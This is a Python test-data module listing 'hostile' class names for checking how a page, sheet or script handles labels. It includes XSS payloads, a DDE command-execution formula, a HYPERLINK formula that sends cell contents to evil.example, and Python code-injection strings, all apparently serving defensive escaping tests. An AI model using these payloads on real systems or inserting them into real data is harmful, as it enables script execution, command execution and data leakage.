"""Class names that somebody chose to break a page, a sheet or a script."""

HOSTILE = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<b>bold</b><a href='javascript:window.hit=1'>go</a>",
    "<!--<script>",
    "]]><svg/onload=window.hit=1>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'; import os; os.abort() #",
    '"""; raise SystemExit(9)  # """',
    "back\\slash \\",
    "{0} {name} %s %(x)s ${title}",
    "%{x} %{customdata}",
    "$x^2$ :red[a] [link](http://evil.example)",
    "two\nlines\r\nand more",
    "nul\x00inside",
    "\u202etfel ot thgir\u202c \u200f",
    "line\u2028separator\u2029s",
    "half \ud800 a sign",
    "שלום, עולם",
    "日本語 🦓",
    " ",
    "x" * 10_000,
    "NaN",
    "1",
)


def hostile_counts() -> dict[str, int]:
    """Each of them as a class; 40 samples of the first, 2 fewer of each further one but at least 3."""
    return {name: max(3, 40 - 2 * place) for place, name in enumerate(HOSTILE)}
